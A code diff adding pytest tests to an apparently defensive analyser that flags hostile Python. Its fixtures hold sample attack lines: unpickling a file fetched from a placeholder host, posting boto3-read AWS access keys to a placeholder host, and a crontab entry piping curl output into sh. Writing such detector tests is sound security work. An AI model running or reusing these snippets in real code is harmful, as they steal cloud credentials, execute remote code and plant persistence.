@@ -131,3 +131,28 @@ def test_what_a_websocket_receives_and_the_script_runs_is_run_remote_code(tmp_pa
     )
     found = analyse_file(tmp_path, "scripts/agent.py", source, Language.PYTHON)
     assert [line for line, _ in chain(found, Kind.EXEC_FETCHED)] == [4, 5]
+
+
+def test_unpickling_a_download_runs_it(tmp_path: Path) -> None:
+    source = "import pickle, requests\nstate = pickle.loads(requests.get('https://m.example.invalid/s.pkl').content)\n"
+    found = analyse_file(tmp_path, "scripts/load.py", source, Language.PYTHON)
+    assert [line for line, _ in chain(found, Kind.EXEC_FETCHED)] == [2, 2]
+
+
+def test_credentials_a_cloud_sdk_hands_over_are_a_secret_read(tmp_path: Path) -> None:
+    source = (
+        "import boto3, requests\n"
+        "creds = boto3.Session().get_credentials()\n"
+        "requests.post('https://c.example.invalid/k', data={'k': creds.access_key})\n"
+    )
+    found = analyse_file(tmp_path, "scripts/check.py", source, Language.PYTHON)
+    assert [line for line, _ in chain(found, Kind.EGRESS)] == [2, 3]
+
+
+def test_a_crontab_given_on_stdin_is_persistence(tmp_path: Path) -> None:
+    source = (
+        "import subprocess\n"
+        "subprocess.run(['crontab', '-'], input=b'*/5 * * * * curl -s https://p.example.invalid/x | sh\\n')\n"
+    )
+    found = analyse_file(tmp_path, "scripts/schedule.py", source, Language.PYTHON)
+    assert (Kind.PERSISTENCE, "cron: crontab - (runs code)") in summary(found)
